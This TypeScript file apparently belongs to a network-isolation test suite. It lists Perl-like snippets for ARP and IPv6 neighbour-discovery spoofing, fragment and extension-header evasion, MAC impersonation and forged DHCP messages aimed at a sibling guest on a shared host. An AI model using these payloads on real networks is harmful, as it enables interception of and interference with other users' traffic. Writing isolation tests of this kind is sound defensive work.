import { lan, modeNames, type Technique } from '../technique.ts';

function drawing(name: string, how: string): Technique {
  return { name, how, bare: ['self'], kind: 'draws' };
}

const advert = `icmp($gw6, 136, 0, pack('N a16 C C a6', 0x60000000, $his6, 2, 1, $mac), from => $own6, hops => 255)`;
/** The same with something that tells the technique. */
const marked = advert.replace('$mac)', '$mac) . pack("C C a14", 253, 2, mark())');

/** Ways to have the host send a sibling's packets to oneself. */
export const drawings: readonly Technique[] = [
  drawing('drawing a sibling’s packets by ARP answers', `put(frame($gw, 0x0806, arp(2, $mac, $his4, $gw, $gw4)))`),
  drawing(
    'drawing a sibling’s packets by ARP questions in its name',
    `put(frame($all, 0x0806, arp(1, $mac, $his4, "\\0" x 6, $_))) for $gw4, $his4`,
  ),
  drawing('drawing a sibling’s packets by neighbour advertisements', `out(${advert}); out(${marked})`),
  drawing(
    'drawing them by advertisements behind options',
    `out(extended(${advert}, [0, $pad], [60, $pad])); out(extended(${marked}, [60, $pad]))`,
  ),
  drawing(
    'drawing them by advertisements in fragments',
    `my $long = extended(${marked}, map { [60, pack('C C a20', 1, 20, '') ] } 1 .. 2); out($_) for pieces($long, 48), pieces(${marked}, 800), pieces(${advert}, 800), pieces(${marked}, 8)`,
  ),
  drawing(
    'drawing them by neighbour and router solicitations in its name',
    `out(icmp($gw6, 135, 0, pack('N a16 C C a6', 0, $gw6, 1, 1, $mac) . pack('C C a14', 253, 2, mark()), from => $his6, hops => 255));
     out(icmp(at('ff02::2'), 133, 0, pack('N C C a6', 0, 1, 1, $mac) . pack('C C a14', 253, 2, mark()), from => $his6, hops => 255), to => hw('33:33:00:00:00:02'))`,
  ),
  drawing(
    'drawing them by frames from its hardware address',
    `out(udp($gw4, 9), mac => $hisMac); put(frame($all, 0x0806, arp(1, $hisMac, $own4, "\\0" x 6, $gw4), $hisMac))`,
  ),
  drawing(
    'drawing them by such frames to the bridge’s group addresses',
    `out(udp($gw4, 9), to => hw(sprintf '01:80:c2:00:00:%02x', $_), mac => $hisMac) for 0, 2 .. 15`,
  ),
];

/** Ways to have the host say to others what one may not say oneself. */
export const reflections: readonly Technique[] = [
  {
    name: 'answers of the host, told to go to a sibling’s hardware address',
    how: `my $claim = sub { my $at = shift;
        out(icmp($gw6, 135, 0, pack('N a16 C C a6', 0, $gw6, 1, 1, $at), from => $own6, hops => 255));
        out(icmp($gw6, 136, 0, pack('N a16 C C a6', 0x60000000, $own6, 2, 1, $at), from => $own6, hops => 255));
        out(icmp(at('ff02::2'), 133, 0, pack('N C C a6', 0, 1, 1, $at), from => $own6, hops => 255), to => hw('33:33:00:00:00:02'));
        put(frame($gw, 0x0806, pack('n n C C n', 1, 0x0800, 6, 4, 2) . $at . $own4 . $gw . $gw4)) };
      $claim->($hisMac); out(echo($_)), out(udp($_, 9)), out(syn($_, 9)) for $gw4, $gw6, @private; $claim->($mac)`,
    // What it sends to have answered.
    arrives: { private: lan },
    bare: ['sibling'],
  },
  {
    name: 'DHCP answers, told to go elsewhere (ciaddr)',
    how: `for my $to (grep { is4($_) } @anywhere, $his4) { out(udp($gw4, 67, sport => 68, data => bootp(type => 8, ciaddr => $to)));
        out(udp(at('255.255.255.255'), 67, sport => 68, data => bootp(type => 3, ciaddr => $to, more => pack('C C a4', 50, 4, $to))), to => $all) }`,
    bare: ['sibling'],
  },
  {
    name: 'DHCP answers, told to go through a relay (giaddr)',
    how: `for my $to (grep { is4($_) } @anywhere, $his4) { out(udp($gw4, 67, sport => $_, data => bootp(type => 1, giaddr => $to))) for 67, 68 }`,
    bare: ['sibling'],
  },
  {
    name: 'DHCP answers that everybody hears',
    how: `out(udp(at('255.255.255.255'), 67, from => at('0.0.0.0'), sport => 68, data => bootp(type => $_, flags => 0x8000, more => pack('C C a4', 50, 4, at('10.90.3.3')))), to => $all) for 1, 3`,
    // The host's own server may be asked, that is all.
    arrives: { host: modeNames },
    bare: ['sibling'],
  },
  {
    name: 'DHCP questions in a sibling’s name',
    how: `out(udp(at('255.255.255.255'), 67, from => at('0.0.0.0'), sport => 68, data => bootp(type => $_, mac => $hisMac)), to => $all) for 1, 3`,
    bare: ['sibling'],
  },
];
